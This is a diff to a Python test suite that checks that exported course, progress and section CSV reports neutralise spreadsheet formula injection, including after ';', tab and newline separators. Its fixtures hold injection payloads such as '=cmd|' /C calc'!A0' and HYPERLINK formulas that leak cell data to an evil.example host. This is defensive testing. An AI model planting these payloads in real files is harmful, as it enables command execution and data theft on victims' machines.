@@ -2,8 +2,10 @@
 
 Every report file must parse with `csv.reader` into exactly the header plus the
 Report's `current_line` rows, and each text cell that a spreadsheet would run
-as a formula (starting with = + - @ tab or CR) must arrive with a leading `'`;
-ids and numbers stay as they are.
+as a formula (starting with = + - @ tab or CR) must arrive with a leading `'`,
+as must each place inside a cell where a `;`-locale, tab-separated or
+line-based reader starts another cell (after `;`, tab, CR or LF); ids and
+numbers stay as they are. No reading of the downloaded file starts a cell with a formula.
 """
 
 from __future__ import annotations
@@ -12,6 +14,7 @@ import csv
 import io
 import json
 import os
+import re
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -24,6 +27,7 @@ from consumer.store.migrate import upgrade
 from tests.api.server import ApiServer, create_token
 from tests.factory import course_event, progress_event, section_event
 from tests.helpers import wait_until
+from tests.reports.readings import formula_cells
 
 ACCOUNT = 91
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -33,7 +37,11 @@ COURSES = {
     4001: ('=HYPERLINK("http://x","y")', "@SUM(1+1)*cmd|' /C calc'!A0"),
     4002: ("Ada\r=1+1", "-2+3"),
     4003: ("Plain Course, with \"quotes\"", "SIS-4003"),
+    4004: ("Chemie;=HYPERLINK(\"http://evil.example/?\"&A2;\"Info\")", "SIS;-4004"),
 }
+# course id -> (course workflow_state, the error of its progress event for student 600 + course id % 10)
+STATES = {4001: ("@available", "=cmd|' /C calc'!A0"), 4002: ("available;=1+1", "not a student\r+1"),
+          4003: ("available", "x\t-1"), 4004: ("-", "@error")}
 STUDENTS = {
     501: (4001, "+SUM(1,2)", "=cmd|' /C calc'!A0"),
     502: (4001, "-2+3", "http://canvas.example.edu/courses/4001/modules/items/2"),
@@ -47,20 +55,29 @@ SECTIONS = {
     9001: (4001, "\r=HYPERLINK(\"http://evil.example\")", "=1+1"),
     9002: (4002, "@Section", "\t"),
     9003: (4003, "Section, \"A\"\r\n", "+1"),
+    9004: (4004, "Gruppe A;+1", "x\n@y"),
 }
+# section id -> (integration id, workflow_state)
+SECTION_EXTRAS = {9001: ("=1+1", "+active"), 9002: ("a;@b", "active"), 9003: (None, "active\r=1"), 9004: ("-x", "-")}
 
 
 def expected(text: str | None) -> str:
+    """A `'` after each `;`, tab, CR or LF that a formula character follows (past any `"`), then at the start."""
     if text is None:
         return ""
-    return "'" + text if text[:1] in FORMULA_STARTS else text
+    inner = re.sub(r'([;\t\r\n])(?="*[=+\-@\t\r])', r"\1'", text)
+    return "'" + inner if inner[:1] in FORMULA_STARTS else inner
 
 
 def hostile_events() -> list[dict]:
     events = []
     for course, (name, sis) in COURSES.items():
         events.append(course_event("2019-10-28T14:02:11Z", course_id=str(course), account_id=str(ACCOUNT), name=name,
-                                   sis_source_id=sis))
+                                   sis_source_id=sis, workflow_state=STATES[course][0]))
+        failed = progress_event("2019-09-01T10:00:00Z", course_id=str(course), user_id=str(600 + course % 10),
+                                error=STATES[course][1], course_name=name, sis_source_id=sis)
+        failed["body"]["course"]["account_id"] = str(ACCOUNT)
+        events.append(failed)
     for user, (course, name, url) in STUDENTS.items():
         event = progress_event("2019-09-01T10:00:00Z", course_id=str(course), user_id=str(user), done=1, total=3,
                                course_name=COURSES[course][0], sis_source_id=COURSES[course][1])
@@ -70,7 +87,8 @@ def hostile_events() -> list[dict]:
         events.append(event)
     for section, (course, name, sis) in SECTIONS.items():
         events.append(section_event("2019-09-02T10:00:00Z", section_id=str(section), course_id=str(course), name=name,
-                                    sis_source_id=sis))
+                                    sis_source_id=sis, integration_id=SECTION_EXTRAS[section][0],
+                                    workflow_state=SECTION_EXTRAS[section][1]))
     return events
 
 
@@ -108,6 +126,7 @@ def download(server: ApiServer, token: str, report: str) -> tuple[list[list[str]
     assert done["status"] == "complete", done
     body = requests.get(done["file_url"], headers=headers, timeout=10)
     assert body.status_code == 200 and len(body.content) == done["attachment"]["size"]
+    assert formula_cells(body.content.decode("utf-8")) == [], report
     rows = list(csv.reader(io.StringIO(body.content.decode("utf-8"), newline=""), strict=True))
     return rows, done
 
@@ -120,25 +139,30 @@ def records(rows: list[list[str]]) -> list[dict[str, str]]:
 
 def test_progress_report_cells_are_neutralised_and_the_file_has_current_line_rows(hostile) -> None:
     rows, report = download(*hostile, "course_progress_csv")
-    assert len(rows) - 1 == report["current_line"] == len(STUDENTS)
+    assert len(rows) - 1 == report["current_line"] == len(STUDENTS) + len(COURSES)
     got = {int(r["user id"]): (int(r["course id"]), r["course name"], r["course sis id"], r["user name"], r["next requirement url"],
-                               r["requirement count"]) for r in records(rows)}
+                               r["requirement count"], r["progress error"]) for r in records(rows)}
     assert got == {
-        user: (course, expected(COURSES[course][0]), expected(COURSES[course][1]), expected(name), expected(url), "3")
-        for user, (course, name, url) in STUDENTS.items()
+        **{user: (course, expected(COURSES[course][0]), expected(COURSES[course][1]), expected(name), expected(url), "3", "")
+           for user, (course, name, url) in STUDENTS.items()},
+        **{600 + course % 10: (course, expected(name), expected(sis), "Isaac Newton", "", "", expected(STATES[course][1]))
+           for course, (name, sis) in COURSES.items()},
     }
 
 
 def test_completion_report_cells_are_neutralised_and_the_file_has_current_line_rows(hostile) -> None:
     rows, report = download(*hostile, "course_completion_csv")
     assert len(rows) - 1 == report["current_line"] == len(COURSES)
-    got = {int(r["course id"]): (r["course name"], r["course sis id"], r["account id"]) for r in records(rows)}
-    assert got == {course: (expected(name), expected(sis), str(ACCOUNT)) for course, (name, sis) in COURSES.items()}
+    got = {int(r["course id"]): (r["course name"], r["course sis id"], r["account id"], r["state"]) for r in records(rows)}
+    assert got == {course: (expected(name), expected(sis), str(ACCOUNT), expected(STATES[course][0]))
+                   for course, (name, sis) in COURSES.items()}
 
 
 def test_sections_report_cells_are_neutralised_and_the_file_has_current_line_rows(hostile) -> None:
     rows, report = download(*hostile, "course_sections_csv")
     assert len(rows) - 1 == report["current_line"] == len(SECTIONS)
-    got = {int(r["section id"]): (int(r["course id"]), r["name"], r["section sis id"]) for r in records(rows)}
-    assert got == {section: (course, expected(name), expected(sis)) for section, (course, name, sis) in SECTIONS.items()}
+    got = {int(r["section id"]): (int(r["course id"]), r["name"], r["section sis id"], r["integration id"], r["state"])
+           for r in records(rows)}
+    assert got == {section: (course, expected(name), expected(sis), *map(expected, SECTION_EXTRAS[section]))
+                   for section, (course, name, sis) in SECTIONS.items()}
 
